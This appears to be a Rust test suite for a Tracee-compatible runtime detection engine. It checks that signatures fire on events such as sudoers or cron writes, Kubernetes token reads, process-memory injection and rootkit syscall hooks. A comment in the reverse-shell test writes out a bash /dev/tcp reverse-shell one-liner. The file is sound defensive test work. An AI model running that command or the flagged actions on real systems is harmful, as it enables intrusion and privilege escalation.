//! Each signature on synthetic events (one that fires, ones that must not) and on events of
//! real Tracee recordings (tests/fixtures/tracee, whose NOTICE says where they come from).

use osprey_detect::{catalogue, Config, Detector, Selection};
use osprey_event::{parse_event, Event};
use serde_json::{json, Value};

fn fixtures() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/tracee")
}

/// An event of process `pid` (host and namespace alike) at time `ts` seconds.
fn event(pid: i64, ts: u64, name: &str, args: Value) -> Event<'static> {
    event_with(pid, ts, name, args, json!({}))
}

fn event_with(pid: i64, ts: u64, name: &str, args: Value, extra: Value) -> Event<'static> {
    let args: Vec<Value> = args
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| {
            let ty = if k.ends_with("addr") && v.is_object() {
                "struct sockaddr*"
            } else {
                "unknown"
            };
            json!({"name": k, "type": ty, "value": v})
        })
        .collect();
    let mut v = json!({
        "timestamp": ts * 1_000_000_000,
        "processId": pid, "threadId": pid, "hostProcessId": pid, "hostThreadId": pid,
        "parentProcessId": 1, "hostParentProcessId": 1,
        "processName": "test", "hostName": "h", "container": {}, "kubernetes": {},
        "eventId": "1", "eventName": name, "argsNum": args.len(), "returnValue": 0,
        "args": args,
    });
    for (k, x) in extra.as_object().unwrap() {
        v[k] = x.clone();
    }
    let line: &'static [u8] = Box::leak(serde_json::to_vec(&v).unwrap().into_boxed_slice());
    parse_event(line).unwrap()
}

fn detector() -> Detector {
    Detector::new(&Config::default()).unwrap()
}

/// The signature IDs of the findings each event triggers, in order.
fn run(events: &[Event<'static>]) -> Vec<String> {
    let mut d = detector();
    let mut ids = Vec::new();
    for e in events {
        for f in d.on_event(e) {
            let m = f.metadata.as_ref().unwrap();
            let id = m
                .properties
                .iter()
                .find(|(k, _)| k == "signatureID")
                .unwrap()
                .1
                .as_str()
                .unwrap()
                .to_string();
            ids.push(id);
        }
    }
    ids
}

fn open(pid: i64, path: &str, flags: Value) -> Event<'static> {
    event(
        pid,
        1,
        "security_file_open",
        json!({"pathname": path, "flags": flags}),
    )
}

const O_RDONLY: i64 = 0;
const O_WRONLY_CREAT: i64 = 0o101;

#[test]
fn file_signatures_fire_on_their_paths_and_access_only() {
    let cases: &[(&str, &str, bool)] = &[
        ("TRC-106", "/sys/fs/cgroup/x/notify_on_release", true),
        ("TRC-107", "/etc/ld.so.preload", true),
        ("TRC-109", "/proc/sys/kernel/randomize_va_space", false),
        ("TRC-1010", "/sys/fs/cgroup/rdma/release_agent", true),
        ("TRC-1011", "/proc/sys/kernel/core_pattern", true),
        (
            "TRC-1012",
            "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            true,
        ),
        ("TRC-1012", "/lib/ld-musl-x86_64.so.1", true),
        ("TRC-1021", "/proc/kcore", false),
        ("TRC-1026", "/etc/rc.local", true),
        ("TRC-1026", "/etc/init.d/evil", true),
        ("TRC-1027", "/etc/crontab", true),
        ("TRC-1027", "/etc/cron.d/job", true),
        ("TRC-1027", "/var/spool/cron/crontabs/root", true),
        ("TRC-1028", "/etc/sudoers", true),
        ("TRC-1028", "/etc/sudoers.d/90-x", true),
        ("TRC-1029", "/proc/sched_debug", false),
        ("TRC-1029", "/sys/kernel/debug/sched/debug", false),
        ("TRC-1031", "/proc/sysrq-trigger", true),
        ("TRC-1031", "/proc/sys/kernel/sysrq", true),
    ];
    for (id, path, write) in cases {
        let (hit, miss) = if *write {
            (O_WRONLY_CREAT, O_RDONLY)
        } else {
            (O_RDONLY, O_WRONLY_CREAT)
        };
        assert_eq!(run(&[open(10, path, json!(hit))]), vec![*id], "{path}");
        assert_eq!(
            run(&[open(10, path, json!(miss))]),
            Vec::<String>::new(),
            "{path}"
        );
        // Tracee's text form of the flags
        let text = if *write {
            "O_WRONLY|O_CREAT"
        } else {
            "O_RDONLY|O_LARGEFILE"
        };
        assert_eq!(
            run(&[open(10, path, json!(text))]),
            vec![*id],
            "{path} {text}"
        );
    }
    // near misses
    for path in [
        "/etc/sudoers.bak",
        "/etc/cronx",
        "/usr/lib/libldap.so.2",
        "/proc/sys/kernel/core_pattern_x",
        "/tmp/etc/sudoers",
        "/etc/ld.so.preload.d",
    ] {
        assert_eq!(
            run(&[open(10, path, json!(O_WRONLY_CREAT))]),
            Vec::<String>::new(),
            "{path}"
        );
    }
}

#[test]
fn renames_onto_protected_paths() {
    for (call, args) in [
        (
            "rename",
            json!({"oldpath": "/tmp/x", "newpath": "/etc/sudoers"}),
        ),
        (
            "renameat",
            json!({"olddirfd": -100, "oldpath": "x", "newdirfd": -100, "newpath": "/etc/sudoers"}),
        ),
        (
            "renameat2",
            json!({"olddirfd": -100, "oldpath": "x", "newdirfd": -100, "newpath": "/etc/sudoers", "flags": 0}),
        ),
    ] {
        assert_eq!(run(&[event(5, 1, call, args)]), vec!["TRC-1028"], "{call}");
    }
    assert_eq!(
        run(&[event(
            5,
            1,
            "rename",
            json!({"oldpath": "/tmp/x", "newpath": "/etc/ld.so.preload"})
        )]),
        vec!["TRC-107"]
    );
    assert_eq!(
        run(&[event(
            5,
            1,
            "rename",
            json!({"oldpath": "/tmp/x", "newpath": "/tmp/y"})
        )]),
        Vec::<String>::new()
    );
}

#[test]
fn ptrace_requests() {
    let p = |req: Value| {
        event(
            3,
            1,
            "ptrace",
            json!({"request": req, "pid": 9, "addr": "0x0", "data": "0x0"}),
        )
    };
    assert_eq!(run(&[p(json!(0))]), vec!["TRC-102"]);
    assert_eq!(run(&[p(json!("PTRACE_TRACEME"))]), vec!["TRC-102"]);
    assert_eq!(run(&[p(json!(4))]), vec!["TRC-103"]); // PTRACE_POKETEXT
    assert_eq!(run(&[p(json!(5))]), vec!["TRC-103"]); // PTRACE_POKEDATA
    assert_eq!(run(&[p(json!("PTRACE_POKEDATA"))]), vec!["TRC-103"]);
    assert_eq!(run(&[p(json!(16))]), Vec::<String>::new()); // PTRACE_ATTACH
}

#[test]
fn exec_signatures() {
    let exec = |pid: i64, path: &str, env: Value| {
        event(
            pid,
            1,
            "sched_process_exec",
            json!({"cmdpath": path, "pathname": path, "env": env, "prev_comm": "bash"}),
        )
    };
    assert_eq!(
        run(&[exec(4, "/memfd:x (deleted)", json!([]))]),
        vec!["TRC-105"]
    );
    assert_eq!(run(&[exec(4, "memfd:x", json!([]))]), vec!["TRC-105"]);
    assert_eq!(run(&[exec(4, "/dev/shm/a", json!([]))]), vec!["TRC-105"]);
    assert_eq!(
        run(&[exec(4, "/usr/bin/memfd:x", json!([]))]),
        Vec::<String>::new()
    );
    assert_eq!(
        run(&[exec(4, "/bin/ls", json!(["LD_PRELOAD=/tmp/x.so", "A=1"]))]),
        vec!["TRC-107"]
    );
    assert_eq!(
        run(&[exec(4, "/bin/ls", json!(["LD_LIBRARY_PATH=/tmp"]))]),
        vec!["TRC-107"]
    );
    assert_eq!(
        run(&[exec(4, "/bin/ls", json!(["X_LD_PRELOAD=1", "PATH=/bin"]))]),
        Vec::<String>::new()
    );
}

#[test]
fn memory_and_module_and_mount_signatures() {
    let alert = |a: Value| {
        event(
            2,
            1,
            "mem_prot_alert",
            json!({"alert": a, "prot": 5, "prev_prot": 7}),
        )
    };
    assert_eq!(run(&[alert(json!(4))]), vec!["TRC-104"]);
    assert_eq!(
        run(&[alert(json!("Protection changed from W to E!"))]),
        vec!["TRC-104"]
    );
    assert_eq!(run(&[alert(json!(1))]), Vec::<String>::new());
    assert_eq!(
        run(&[event(
            2,
            1,
            "finit_module",
            json!({"fd": 3, "param_values": "", "flags": 0})
        )]),
        vec!["TRC-1017"]
    );
    assert_eq!(
        run(&[event(2, 1, "init_module", json!({"param_values": ""}))]),
        vec!["TRC-1017"]
    );
    let container = json!({"container": {"id": "abc"}, "containerId": "abc"});
    let mount = |dev: &str, extra: Value| {
        event_with(
            2,
            1,
            "security_sb_mount",
            json!({"dev_name": dev, "path": "/mnt", "type": "ext4", "flags": 0}),
            extra,
        )
    };
    assert_eq!(
        run(&[mount("/dev/sda1", container.clone())]),
        vec!["TRC-1014"]
    );
    assert_eq!(run(&[mount("/dev/sda1", json!({}))]), Vec::<String>::new());
    assert_eq!(run(&[mount("proc", container)]), Vec::<String>::new());
}

fn elf_write(pid: i64, path: &str, extra: Value) -> Event<'static> {
    // "\x7fELF\x02\x01\x01" in base64
    event_with(
        pid,
        1,
        "magic_write",
        json!({"pathname": path, "bytes": "f0VMRgIBAQ==", "dev": 1, "inode": 2}),
        extra,
    )
}

#[test]
fn dropped_and_hidden_executables() {
    let container = json!({"container": {"id": "abc"}});
    assert_eq!(
        run(&[elf_write(1, "/tmp/.x/evil", json!({}))]),
        vec!["TRC-1015"]
    );
    assert_eq!(
        run(&[elf_write(1, "/tmp/evil", container.clone())]),
        vec!["TRC-1022"]
    );
    let mut both = run(&[elf_write(1, "/tmp/.x/evil", container.clone())]);
    both.sort();
    assert_eq!(both, vec!["TRC-1015", "TRC-1022"]);
    // on the host, an ELF written where it is not hidden is a build's output, not a finding
    assert_eq!(
        run(&[elf_write(1, "/tmp/a.out", json!({}))]),
        Vec::<String>::new()
    );
    // not an ELF
    let script = event(
        1,
        1,
        "magic_write",
        json!({"pathname": "/tmp/.x/s", "bytes": "IyEvYmluL3No", "dev": 1, "inode": 2}),
    );
    assert_eq!(run(&[script]), Vec::<String>::new());
}

#[test]
fn kubernetes_and_docker_signatures() {
    let token = "/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token";
    assert_eq!(run(&[open(7, token, json!(0))]), vec!["TRC-108"]);
    let allowed = event_with(
        7,
        1,
        "security_file_open",
        json!({"pathname": token, "flags": 0}),
        json!({"processName": "coredns"}),
    );
    assert_eq!(run(&[allowed]), Vec::<String>::new());
    assert_eq!(
        run(&[open(7, "/etc/kubernetes/pki/ca.key", json!(0))]),
        vec!["TRC-1018"]
    );
    let container = json!({"container": {"id": "abc"}});
    let sock = event_with(
        7,
        1,
        "security_socket_connect",
        json!({"sockfd": 3, "type": 1, "remote_addr": {"sa_family": "AF_UNIX", "sun_path": "/var/run/docker.sock"}}),
        container.clone(),
    );
    assert_eq!(run(&[sock]), vec!["TRC-1019"]);
    let host_sock = event(
        7,
        1,
        "security_socket_connect",
        json!({"sockfd": 3, "type": 1, "remote_addr": {"sa_family": "AF_UNIX", "sun_path": "/var/run/docker.sock"}}),
    );
    assert_eq!(run(&[host_sock]), Vec::<String>::new());
    // TRC-1013: the address the process was given in KUBERNETES_SERVICE_HOST
    let exec = event(
        8,
        1,
        "sched_process_exec",
        json!({"pathname": "/bin/curl", "env": ["KUBERNETES_SERVICE_HOST=10.96.0.1"]}),
    );
    let connect = |pid, addr: &str| {
        event(
            pid,
            2,
            "security_socket_connect",
            json!({"sockfd": 3, "type": 1, "remote_addr": {"sa_family": "AF_INET", "sin_addr": addr, "sin_port": "443"}}),
        )
    };
    assert_eq!(
        run(&[exec.clone(), connect(8, "10.96.0.1")]),
        vec!["TRC-1013"]
    );
    assert_eq!(
        run(&[exec.clone(), connect(8, "10.96.0.2")]),
        Vec::<String>::new()
    );
    assert_eq!(
        run(&[exec.clone(), connect(9, "10.96.0.1")]),
        Vec::<String>::new()
    );
    // a forked child inherits the environment; an exit forgets it
    let fork = event(
        8,
        2,
        "sched_process_fork",
        json!({"parent_pid": 8, "child_pid": 12}),
    );
    assert_eq!(
        run(&[exec.clone(), fork, connect(12, "10.96.0.1")]),
        vec!["TRC-1013"]
    );
    let exit = event(
        8,
        2,
        "sched_process_exit",
        json!({"exit_code": 0, "process_group_exit": true}),
    );
    assert_eq!(
        run(&[exec, exit, connect(8, "10.96.0.1")]),
        Vec::<String>::new()
    );
}

fn connect(pid: i64, fd: i64, ty: i64) -> Event<'static> {
    event(
        pid,
        1,
        "security_socket_connect",
        json!({"sockfd": fd, "type": ty, "remote_addr": {"sa_family": "AF_INET", "sin_addr": "127.0.0.1", "sin_port": "4444"}}),
    )
}

fn dup2(pid: i64, old: i64, new: i64) -> Event<'static> {
    event_with(
        pid,
        1,
        "dup2",
        json!({"oldfd": old, "newfd": new}),
        json!({"returnValue": new}),
    )
}

#[test]
fn stdio_over_socket_reverse_shell() {
    // bash -i >& /dev/tcp/127.0.0.1/4444 0>&1: connect fd 3, then 3 -> 1, 1 -> 2, 1 -> 0
    let shell = [
        connect(20, 3, 1),
        dup2(20, 3, 1),
        dup2(20, 1, 2),
        dup2(20, 1, 0),
    ];
    assert_eq!(run(&shell), vec!["TRC-101"]);
    // connecting fd 0 itself
    assert_eq!(run(&[connect(20, 0, 1)]), vec!["TRC-101"]);
    // a UDP socket (name lookup) whose descriptor number is later a file's
    assert_eq!(
        run(&[connect(20, 3, 2), dup2(20, 3, 0)]),
        Vec::<String>::new()
    );
    // a socket closed before its number is reused
    let closed = [
        connect(20, 3, 1),
        event(20, 1, "close", json!({"fd": 3})),
        dup2(20, 3, 0),
    ];
    assert_eq!(run(&closed), Vec::<String>::new());
    // another process's socket
    assert_eq!(
        run(&[connect(20, 3, 1), dup2(21, 3, 0)]),
        Vec::<String>::new()
    );
    // the child of a fork inherits the socket (python: connect, fork, dup2 in the child)
    let fork = event(
        20,
        1,
        "sched_process_fork",
        json!({"parent_pid": 20, "child_pid": 22}),
    );
    assert_eq!(
        run(&[connect(20, 3, 1), fork, dup2(22, 3, 0)]),
        vec!["TRC-101"]
    );
    // forgotten at exit
    let exit = event(
        20,
        1,
        "sched_process_exit",
        json!({"exit_code": 0, "process_group_exit": true}),
    );
    assert_eq!(
        run(&[connect(20, 3, 1), exit, dup2(20, 3, 0)]),
        Vec::<String>::new()
    );
    // a failed dup2 changes nothing
    let failed = event_with(
        20,
        1,
        "dup2",
        json!({"oldfd": 3, "newfd": 0}),
        json!({"returnValue": -9}),
    );
    assert_eq!(run(&[connect(20, 3, 1), failed]), Vec::<String>::new());
}

#[test]
fn web_server_spawning_a_shell() {
    let exec = |pid: i64, ppid: i64, path: &str, prev: &str| {
        event_with(
            pid,
            1,
            "sched_process_exec",
            json!({"pathname": path, "prev_comm": prev}),
            json!({"hostParentProcessId": ppid}),
        )
    };
    assert_eq!(run(&[exec(30, 1, "/bin/sh", "nginx")]), vec!["TRC-1016"]);
    assert_eq!(run(&[exec(30, 1, "/bin/sh", "bash")]), Vec::<String>::new());
    assert_eq!(
        run(&[exec(30, 1, "/usr/bin/id", "nginx")]),
        Vec::<String>::new()
    );
    // the parent's program, as its exec showed it (prev_comm absent, as in older recordings)
    let parent = exec(31, 1, "/usr/sbin/apache2", "systemd");
    let child = event_with(
        32,
        2,
        "sched_process_exec",
        json!({"pathname": "/bin/bash"}),
        json!({"hostParentProcessId": 31}),
    );
    assert_eq!(run(&[parent, child]), vec!["TRC-1016"]);
}

#[test]
fn injection_into_other_processes() {
    assert_eq!(run(&[open(40, "/proc/41/mem", json!(0))]), vec!["TRC-1023"]);
    assert_eq!(run(&[open(40, "/proc/41/mem", json!(1))]), vec!["TRC-1024"]);
    assert_eq!(
        run(&[open(40, "/proc/41/task/42/mem", json!("O_WRONLY"))]),
        vec!["TRC-1024"]
    );
    assert_eq!(
        run(&[open(40, "/proc/40/mem", json!(1))]),
        Vec::<String>::new()
    );
    assert_eq!(
        run(&[open(40, "/proc/self/mem", json!(1))]),
        Vec::<String>::new()
    );
    let vm = |pid: i64, target: i64| {
        event(
            pid,
            1,
            "process_vm_writev",
            json!({"pid": target, "liovcnt": 1, "riovcnt": 1, "flags": 0}),
        )
    };
    assert_eq!(run(&[vm(50, 51)]), vec!["TRC-1025"]);
    assert_eq!(run(&[vm(50, 50)]), Vec::<String>::new());
}

#[test]
fn findings_are_in_tracees_layout() {
    let mut d = detector();
    let trigger = open(10, "/etc/sudoers", json!(1));
    let f = d.on_event(&trigger).remove(0);
    let mut line = Vec::new();
    f.write_legacy_json(&mut line);
    let v: Value = serde_json::from_slice(&line).unwrap();
    assert_eq!(v["eventName"], "sudoers_modification");
    assert_eq!(v["eventId"], "6028");
    assert_eq!(v["processId"], 10);
    assert_eq!(v["timestamp"], 1_000_000_000u64);
    let props = &v["metadata"]["Properties"];
    assert_eq!(props["signatureID"], "TRC-1028");
    assert_eq!(props["signatureName"], "Sudoers file modification detected");
    assert_eq!(props["Severity"], 2);
    assert_eq!(props["Category"], "privilege-escalation");
    assert_eq!(props["Technique"], "Sudo and Sudo Caching");
    assert_eq!(props["external_id"], "T1548.003");
    assert_eq!(v["metadata"]["Version"], "1");
    assert!(v["metadata"]["Description"]
        .as_str()
        .unwrap()
        .contains("sudoers"));
    let args = v["args"].as_array().unwrap();
    assert_eq!(v["argsNum"], args.len());
    let trig = &args.last().unwrap();
    assert_eq!(trig["name"], "triggeredBy");
    assert_eq!(trig["type"], "unknown");
    assert_eq!(trig["value"]["name"], "security_file_open");
    assert_eq!(trig["value"]["id"], 1);
    assert_eq!(trig["value"]["returnValue"], 0);
    assert!(trig["value"]["args"]
        .as_array()
        .unwrap()
        .contains(&json!({"name": "pathname", "type": "unknown", "value": "/etc/sudoers"})));
    // and it reads back as a signature
    let back = parse_event(&line).unwrap();
    assert!(back.is_signature());
    // findings are never input
    assert!(d.on_event(&back).is_empty());
}

fn read_fixture(name: &str) -> Vec<Event<'static>> {
    let text: &'static [u8] = Box::leak(
        std::fs::read(fixtures().join(name))
            .unwrap()
            .into_boxed_slice(),
    );
    text.split(|&b| b == b'\n')
        .filter(|l| l.starts_with(b"{") && !osprey_event::is_log_line(l))
        .map(|l| parse_event(l).unwrap())
        .collect()
}

#[test]
fn real_tracee_recordings() {
    // benign recordings give no finding (and their own findings are not input)
    for f in [
        "tracee-docs-v0.23.jsonl",
        "tracee-action-trace.jsonl",
        "examples/finding_TRC-1022.v0.11-era.json",
        "examples/security_file_open.v0.2x.json",
        "examples/sched_process_exec.v0.10-era.tracee-action.json",
    ] {
        assert_eq!(run(&read_fixture(f)), Vec::<String>::new(), "{f}");
    }
    // Tracee's own security_file_open events (flags in text form), aimed elsewhere
    let text = std::fs::read_to_string(fixtures().join("tracee-docs-v0.23.jsonl")).unwrap();
    let write_line = text
        .lines()
        .find(|l| l.contains("\"eventName\":\"security_file_open\"") && l.contains("O_WRONLY"))
        .unwrap();
    let retarget = |line: &str, from: &str, to: &str| -> Event<'static> {
        let s: &'static str = Box::leak(line.replace(from, to).into_boxed_str());
        parse_event(s.as_bytes()).unwrap()
    };
    assert_eq!(
        run(&[retarget(write_line, "/tmp/testing.txt", "/etc/sudoers")]),
        vec!["TRC-1028"]
    );
    assert_eq!(
        run(&[retarget(write_line, "/tmp/testing.txt", "/etc/cron.d/x")]),
        vec!["TRC-1027"]
    );
    let read_line =
        std::fs::read_to_string(fixtures().join("examples/security_file_open.v0.2x.json")).unwrap();
    assert_eq!(
        run(&[retarget(read_line.trim(), "/proc/meminfo", "/proc/kcore")]),
        vec!["TRC-1021"]
    );
    assert_eq!(
        run(&[retarget(read_line.trim(), "/proc/meminfo", "/etc/sudoers")]),
        Vec::<String>::new()
    );
}

#[test]
fn the_catalogue_has_all_29_signatures_and_the_two_kernel_integrity_ones() {
    let cat = catalogue();
    assert_eq!(cat.len(), 31);
    let mut ids: Vec<&str> = cat.iter().map(|s| s.meta.id.as_str()).collect();
    ids.dedup();
    assert_eq!(ids.len(), 31);
    let integrity: Vec<(&str, &str)> = cat
        .iter()
        .filter(|s| s.meta.events.iter().any(|e| e.starts_with("hooked_")))
        .map(|s| (s.meta.id.as_str(), s.meta.events[0].as_str()))
        .collect();
    assert_eq!(
        integrity,
        vec![
            ("TRC-1020", "hooked_proc_fops"),
            ("TRC-1030", "hooked_syscall")
        ]
    );
    for s in &cat {
        assert!((6000..7000).contains(&s.event_id));
        assert!(!s.meta.events.is_empty(), "{}", s.meta.id);
        assert!(!s.meta.description.is_empty());
    }
}

#[test]
fn kernel_integrity_events_are_findings() {
    let hooked = event(
        1,
        1,
        "hooked_syscall",
        json!({"syscall": "getdents64", "address": "ffffffffc0a01000", "function": "hacked_getdents64", "owner": "diamorphine"}),
    );
    let fops = event(
        1,
        2,
        "hooked_proc_fops",
        json!({"hooked_fops_pointers": [{"SymbolName": "iterate_shared", "ModuleOwner": "diamorphine"}]}),
    );
    let other = event(1, 3, "hooked_seq_ops", json!({}));
    assert_eq!(run(&[hooked, fops, other]), vec!["TRC-1030", "TRC-1020"]);
}

#[test]
fn selection() {
    let only = Config {
        selection: Selection::parse("TRC-102,fileless_execution"),
        ..Config::default()
    };
    let d = Detector::new(&only).unwrap();
    let ids: Vec<&str> = d.signatures().iter().map(|s| s.meta.id.as_str()).collect();
    assert_eq!(ids, vec!["TRC-102", "TRC-105"]);
    assert_eq!(
        d.events(),
        &["ptrace".to_string(), "sched_process_exec".to_string()]
    );
    let none = Detector::new(&Config {
        selection: Selection::None,
        ..Config::default()
    })
    .unwrap();
    assert!(none.is_empty());
    let err = Detector::new(&Config {
        selection: Selection::parse("TRC-999"),
        ..Config::default()
    })
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "unknown signature \"TRC-999\" (osprey detect --list shows the catalogue)"
    );
}

#[test]
fn user_sequence_rule_write_then_exec() {
    let rules = r#"
[[rule]]
id = "OSP-1"
name = "write_then_exec"
title = "A file written then executed"
severity = 3
category = "execution"
events = ["magic_write", "sched_process_exec"]
filter = 'tracee.eventName == "magic_write"'
then = 'tracee.eventName == "sched_process_exec"'
within = "10s"
same = [["tracee.args.magic_write.pathname", "tracee.args.sched_process_exec.pathname"]]
"#;
    let config = Config {
        selection: Selection::parse("OSP-1"),
        rule_files: vec![("mine.toml".into(), rules.into())],
    };
    let write = |pid, ts, path: &str| {
        event(
            pid,
            ts,
            "magic_write",
            json!({"pathname": path, "bytes": "IyEvYmluL3No"}),
        )
    };
    let exec =
        |pid, ts, path: &str| event(pid, ts, "sched_process_exec", json!({"pathname": path}));
    let go = |evs: &[Event<'static>]| {
        let mut d = Detector::new(&config).unwrap();
        let mut out = Vec::new();
        for e in evs {
            for f in d.on_event(e) {
                assert_eq!(f.event_id, 6100);
                assert_eq!(f.event_name, "write_then_exec");
                out.push(f.timestamp / 1_000_000_000);
            }
        }
        out
    };
    assert_eq!(go(&[write(1, 1, "/tmp/x"), exec(1, 5, "/tmp/x")]), vec![5]);
    assert_eq!(
        go(&[write(1, 1, "/tmp/x"), exec(1, 12, "/tmp/x")]),
        Vec::<u64>::new()
    ); // too late
    assert_eq!(
        go(&[write(1, 1, "/tmp/x"), exec(1, 5, "/tmp/y")]),
        Vec::<u64>::new()
    ); // another file
    assert_eq!(
        go(&[write(1, 1, "/tmp/x"), exec(2, 5, "/tmp/x")]),
        Vec::<u64>::new()
    ); // another process
    assert_eq!(
        go(&[exec(1, 1, "/tmp/x"), write(1, 5, "/tmp/x")]),
        Vec::<u64>::new()
    ); // wrong order
       // one finding per first step
    assert_eq!(
        go(&[
            write(1, 1, "/tmp/x"),
            exec(1, 2, "/tmp/x"),
            exec(1, 3, "/tmp/x")
        ]),
        vec![2]
    );
    // the process exited in between
    let exit = event(
        1,
        2,
        "sched_process_exit",
        json!({"process_group_exit": true}),
    );
    assert_eq!(
        go(&[write(1, 1, "/tmp/x"), exit, exec(1, 3, "/tmp/x")]),
        Vec::<u64>::new()
    );
}
